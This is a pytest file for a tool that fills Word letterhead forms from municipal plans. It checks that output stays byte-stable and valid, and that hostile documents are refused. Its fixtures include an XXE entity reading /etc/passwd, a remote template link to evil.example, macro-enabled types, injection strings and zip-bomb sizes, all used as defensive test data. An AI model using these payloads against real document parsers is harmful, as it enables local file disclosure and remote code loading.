"""The file of a form made in Word: what has no place stays byte by byte, and what may hurt is refused."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
from tests.files.making import claiming
from tests.ooxml import validation_errors
from tests.typeset.here import pages_of
from tests.word.filling.making import NAME, filled, form, form_of, lines_of, teller, with_xml
from tests.word.ooxml.letterheads import SETTINGS, Letterhead, letterhead, parts, picture, zipped
from tests.word.plans import ROOT, plan, plan_items

from planeditor.language import Catalogue, Language
from planeditor.plan.tree import PlanTree
from planeditor.word.filling.document import UnusableDocument, fill, read_form
from planeditor.word.ooxml.markup import NAMESPACE
from planeditor.word.stages import Stage

MAIN = "word/document.xml"
TYPES = "[Content_Types].xml"


def own(xml: str = "") -> bytes:
    """A letterhead of the user's with places in its text and table."""
    made = letterhead()
    made.add_paragraph("Dėl {Plano pavadinimo kilmininkas}, {Sprendimo data} Nr. {Sprendimo numeris}")
    table = made.add_table(2, 2)
    table.style = "Table Grid"
    table.rows[0].cells[0].text, table.rows[0].cells[1].text = "{Veikla: nr.}", "{Veikla: aprašymas}"
    table.rows[1].cells[1].text = "{Su PVM}"
    return with_xml(made, xml)


def test_all_but_the_text_stays_as_it_is_and_the_same_plan_gives_the_same_bytes() -> None:
    before = own()
    made = filled(before)
    old, new = parts(before), parts(made.content)
    assert [*old] == [*new]
    assert [name for name in old if old[name] != new[name]] == [MAIN]
    assert filled(before).content == made.content
    assert picture() in new.values()


def test_the_decision_is_that_of_the_copy() -> None:
    content = own()
    assert form(content).about.stages == (*Stage,)
    assert form(form_of("{Versija}")).about.stages == (Stage.DRAFT,)
    assert "Dėl Elektrėnų savivaldybės švietimo pažangos plano, 2024" in lines_of(filled(content).content)[2]


HOSTILE = {
    "markup": "</w:t><w:p/>&amp;]]><!-- <?xml",
    "braces": "{Versija} {Veikla: pavadinimas} {x.__class__} %n",
    "forbidden characters": "a\x0c\x1f\ufffeb",
    "right to left": "\u202eatbus\u202c \u200fשלום\u200e",
    "many lines": "– a\n\n" * 20,
    "only spaces": " \u00a0\t\r\n ",
}
KEPT = ("markup", "braces", "right to left")


def control(name: str, number: int, content: str) -> str:
    """A control of a document."""
    properties = f'<w:sdtPr><w:alias w:val="{name}"/><w:id w:val="{number}"/></w:sdtPr>'
    return f"<w:sdt>{properties}<w:sdtContent>{content}</w:sdtContent></w:sdt>"


def paragraphs(*texts: str) -> str:
    """Paragraphs of these texts."""
    return "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_text_is_never_markup_and_never_a_place(name: str) -> None:
    text = HOSTILE[name]
    items = [replace(one, title=text) if one.id == ROOT else one for one in plan_items(2, text)]
    made = filled(own(paragraphs("{Plano pavadinimas}")), PlanTree(items))
    assert (text in "\n".join(lines_of(made.content))) == (name in KEPT)
    assert made.unfilled == []


def test_what_comes_of_it_is_valid_and_has_pages(tmp_path: Path) -> None:
    run = "<w:r><w:t>{Uždavinys: nr.} {nėra}</w:t></w:r>"
    xml = control("Veikla", 5, f"{paragraphs('{Veikla}')}<w:p>{run}</w:p>")
    xml += control("Tęstinumas", 6, paragraphs("x")) + f"<w:p>{control('Versija', 7, run)}</w:p>"
    content = filled(own(xml), plan(4, "".join(HOSTILE.values()))).content
    assert len(pages_of(content)) >= 1
    path = tmp_path / "a.docx"
    path.write_bytes(content)
    assert validation_errors(path) == []


def test_a_template_of_word_makes_a_document() -> None:
    files = parts(own())
    files[TYPES] = files[TYPES].replace(b"document.main+xml", b"template.main+xml")
    made = parts(filled(zipped(files)).content)
    assert b"template.main+xml" not in made[TYPES] and b"document.main+xml" in made[TYPES]


def test_the_template_that_a_document_was_begun_with_is_left_behind() -> None:
    made = Letterhead(own())
    made.put(SETTINGS, '<w:attachedTemplate r:id="x9"/>', before="</w:settings>")
    made.link(SETTINGS, "x9", "attachedTemplate", "https://evil.example/x.dotm", outside=True)
    told = parts(filled(made.bytes).content)
    assert not any(b"evil" in part or b"attachedTemplate" in part for part in told.values())


def _with_macros(files: dict[str, bytes]) -> None:
    files[TYPES] = files[TYPES].replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )


def _with_hidden_macros(files: dict[str, bytes]) -> None:
    kind = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
    files[TYPES] = files[TYPES].replace(b"</Types>", kind)


def _strict(files: dict[str, bytes]) -> None:
    strict = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
    files[MAIN] = files[MAIN].replace(NAMESPACE.encode(), strict)


def _declared(files: dict[str, bytes]) -> None:
    start = files[MAIN].index(b"<w:document")
    files[MAIN] = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>' + files[MAIN][start:]


def _cut(files: dict[str, bytes]) -> None:
    files[MAIN] = files[MAIN][:-20]


def _without_types(files: dict[str, bytes]) -> None:
    del files[TYPES]


def _of_nothing(files: dict[str, bytes]) -> None:
    files[MAIN] = files[MAIN].replace(b"{", b"(")


def _deep(files: dict[str, bytes]) -> None:
    begin, end = b"<w:tbl><w:tr><w:tc>", b"</w:tc></w:tr></w:tbl>"
    files[MAIN] = files[MAIN].replace(b"<w:sectPr", begin * 70 + b"<w:p/>" + end * 70 + b"<w:sectPr", 1)


def _very_deep(files: dict[str, bytes]) -> None:
    files[MAIN] = files[MAIN].replace(b"<w:sectPr", b"<w:sdt>" * 900 + b"</w:sdt>" * 900 + b"<w:sectPr", 1)


@pytest.mark.parametrize(
    ("harm", "sentence"),
    [
        (_with_macros, "makrokomandų"),
        (_with_hidden_macros, "makrokomandų"),
        (_strict, "Strict"),
        (_declared, "DOCTYPE"),
        (_cut, "nėra „Word“ dokumentas"),
        (_without_types, "nėra „Word“ dokumentas"),
        (_of_nothing, "nepasakyta, ką iš plano įrašyti"),
        (_very_deep, "nėra „Word“ dokumentas"),
    ],
    ids=lambda one: getattr(one, "__name__", ""),
)
def test_what_cannot_be_a_form_is_refused_with_a_sentence(
    harm: Callable[[dict[str, bytes]], None], sentence: str
) -> None:
    files = parts(own())
    harm(files)
    with pytest.raises(UnusableDocument) as refusal:
        form(zipped(files))
    told = Catalogue.of(Language.LT).say(refusal.value.said)
    assert sentence in told and NAME in told and "ablon" not in told


def test_what_is_no_zip_or_swells_is_refused() -> None:
    for content in (b"", b"PK", b"\xd0\xcf\x11\xe0" * 99, claiming(own(), MAIN, 2**31)):
        with pytest.raises(UnusableDocument):
            form(content)


def test_tables_in_tables_are_filled_or_refused_but_never_a_fault() -> None:
    files = parts(own())
    _deep(files)
    content = zipped(files)
    try:
        fill(read_form(content, NAME), teller(plan()), lambda: None)
    except UnusableDocument as refusal:
        assert "viena lentelė kitoje" in Catalogue.of(Language.LT).say(refusal.said)
